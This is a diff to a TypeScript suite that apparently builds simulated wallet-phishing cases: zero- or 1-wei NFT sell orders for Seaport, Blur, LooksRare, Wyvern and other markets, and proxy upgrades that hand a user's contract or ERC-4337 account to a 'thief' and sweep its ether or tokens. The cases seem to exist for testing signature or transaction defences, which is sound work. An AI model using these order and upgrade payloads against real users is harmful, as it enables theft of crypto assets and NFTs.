@@ -1,7 +1,7 @@
-import { type Address, hashMessage, hashTypedData, type Hex, parseAbi, toHex } from 'viem';
+import { type Address, type Hex, hashMessage, hashTypedData, parseAbi, toHex } from 'viem';
 
 import type { Case } from '../Case.ts';
-import { attack, calls, losesBy, signature, transaction, type Typed } from './attack.ts';
+import { attack, calls, losesBy, signature, type Typed, transaction } from './attack.ts';
 import { type Deployed, ETHER, FAR_SECONDS, type Heist, type RawCall, ZERO_ADDRESS } from './Heist.ts';
 import { smartAccount } from './smartAccount.ts';
 
@@ -9,7 +9,9 @@ import { smartAccount } from './smartAccount.ts';
 export const ORDERS: readonly Case[] = [
   seaport('c1-nothing', 'consideration: 1 wei of nothing for nobody (an empty list)', '1.5', async () => []),
   seaport('c1-dust', 'consideration: 1 wei of ether to the maker', '1.6', async (h) => [ether(1n, h.user)]),
-  seaport('c1-elsewhere', 'consideration: a fair price, paid to the thief', '1.5', async (h) => [ether(2n * ETHER, h.thief)]),
+  seaport('c1-elsewhere', 'consideration: a fair price, paid to the thief', '1.5', async (h) => [
+    ether(2n * ETHER, h.thief),
+  ]),
   seaport('c1-split', 'consideration: 3 % to the maker, the rest as a "fee" to the thief', '1.4', async (h) => [
     ether((2n * ETHER * 3n) / 100n, h.user),
     ether((2n * ETHER * 97n) / 100n, h.thief),
@@ -72,7 +74,12 @@ export const ORDERS: readonly Case[] = [
   ),
   ...upgrades(),
   signature(
-    { id: 'c4-root', family: 'C4', shape: 'Blur Root{bytes32} of unseen orders', provenance: 'Blur bulk listings; thefts of 2023' },
+    {
+      id: 'c4-root',
+      family: 'C4',
+      shape: 'Blur Root{bytes32} of unseen orders',
+      provenance: 'Blur bulk listings; thefts of 2023',
+    },
     async (heist) => {
       const art = await heist.art();
       const root = toHex('a root of orders', { size: 32 });
@@ -336,6 +343,8 @@ function transferItem(heist: Heist, art: Deployed, id: bigint): RawCall {
   return heist.encode({ ...art, abi }, 'safeTransferFrom', [heist.user, heist.stranger('gallery'), id]);
 }
 
+const SWEEP = parseAbi(['function sweepEther(address to)']);
+
 /** C3: nothing moves when it is signed; afterwards the thief's code holds what the proxy holds. */
 function upgrades(): Case[] {
   const provenance = 'PTXPhish (NDSS 2025), category proxy upgrade (108 of 5,000)';
@@ -367,20 +376,27 @@ function upgrades(): Case[] {
     });
   return [
     direct('c3-upgrade-to', 'upgradeTo', (_, code) => [code]),
-    direct('c3-upgrade-and-call', 'upgradeToAndCall', (_, code) => [code, '0x']),
+    direct('c3-upgrade-and-call', 'upgradeToAndCall', (heist, code) => [
+      code,
+      heist.encode({ address: code, abi: SWEEP }, 'sweepEther', [heist.thief]).data,
+    ]),
     direct('c3-change-admin', 'changeAdmin', (heist) => [heist.thief]),
     byManager('c3-manager-upgrade', 'upgrade'),
     byManager('c3-manager-admin', 'changeProxyAdmin'),
     transaction(
-      { id: 'c3-smart-account', family: 'C3', shape: "upgradeToAndCall on the user's ERC-4337 account (UUPS)", provenance },
+      {
+        id: 'c3-smart-account',
+        family: 'C3',
+        shape: "upgradeToAndCall on the user's ERC-4337 account (UUPS)",
+        provenance,
+      },
       async (heist) => {
         const { account, coin } = await smartAccount(heist);
         const code = await heist.thiefs('UupsSweeper');
         return {
           call: heist.encode(account, 'upgradeToAndCall', [code.address, '0x']),
           stake: heist.balance(coin, account.address),
-          theft: () =>
-            heist.send(heist.thief, { ...account, abi: code.abi }, 'sweep', [coin.address, heist.thief]),
+          theft: () => heist.send(heist.thief, { ...account, abi: code.abi }, 'sweep', [coin.address, heist.thief]),
         };
       },
     ),
@@ -395,7 +411,12 @@ async function usersProxy(heist: Heist, admin: Address = heist.user) {
   return { proxy, coin, code: await heist.thiefs('SweepingVault') };
 }
 
-function blurOrder(heist: Heist, art: Deployed & { readonly ids: readonly bigint[] }, price: bigint, fees: object[]): Typed {
+function blurOrder(
+  heist: Heist,
+  art: Deployed & { readonly ids: readonly bigint[] },
+  price: bigint,
+  fees: object[],
+): Typed {
   return {
     domain: { name: 'Blur Exchange', version: '1.0', chainId: heist.world.chainId, verifyingContract: BLUR },
     types: {
@@ -424,7 +445,7 @@ function blurOrder(heist: Heist, art: Deployed & { readonly ids: readonly bigint
     message: {
       trader: heist.user,
       side: 1,
-      matchingPolicy: '0x0000000000dAB4A563819e8fd93dbA3b25BC3495',
+      matchingPolicy: '0x0000000000dab4a563819e8fd93dba3b25bc3495',
       collection: art.address,
       tokenId: art.ids[0] ?? 0n,
       amount: 1n,
@@ -454,10 +475,20 @@ function markets(): Case[] {
     });
   return [
     market('c5-zero-ex', '0x v4 ERC721Order, price 0', '0x v4 NFT orders (Coinbase NFT, 2022)', zeroExOrder),
-    market('c5-looks-rare', 'LooksRare MakerOrder (v1), ask for 1 wei', '@looksrare/contracts-exchange-v1', looksRareV1),
+    market(
+      'c5-looks-rare',
+      'LooksRare MakerOrder (v1), ask for 1 wei',
+      '@looksrare/contracts-exchange-v1',
+      looksRareV1,
+    ),
     market('c5-looks-rare-2', 'LooksRare Maker (v2), ask for 1 wei', 'LooksRare protocol v2', looksRareV2),
     market('c5-x2y2', 'X2Y2 Order, intent sell, price 1 wei', 'X2Y2 r1 orders', x2y2Order),
-    market('c5-wyvern', 'Wyvern v2.3 Order, basePrice 0, private taker', 'OpenSea, 19 Feb 2022: 32 users, Wyvern orders signed before the migration', wyvernOrder),
+    market(
+      'c5-wyvern',
+      'Wyvern v2.3 Order, basePrice 0, private taker',
+      'OpenSea, 19 Feb 2022: 32 users, Wyvern orders signed before the migration',
+      wyvernOrder,
+    ),
     market('c5-rarible', 'Rarible ExchangeV2 Order, make an item, take nothing', 'Rarible ExchangeV2', raribleOrder),
     market('c5-element', 'Element ERC721SellOrder, price 0', 'Element Market orders', elementOrder),
     attack(
@@ -490,10 +521,11 @@ function markets(): Case[] {
 }
 
 const field = (name: string, type: string) => ({ name, type });
-const fieldsOf = (text: string) => text.split(',').map((part) => {
-  const [type = '', name = ''] = part.trim().split(' ');
-  return field(name, type);
-});
+const fieldsOf = (text: string) =>
+  text.split(',').map((part) => {
+    const [type = '', name = ''] = part.trim().split(' ');
+    return field(name, type);
+  });
 
 function zeroExOrder(heist: Heist, collection: Address, tokenId: bigint): Typed {
   return {
@@ -725,4 +757,3 @@ function raribleOrder(heist: Heist, collection: Address, tokenId: bigint): Typed
     },
   };
 }
-
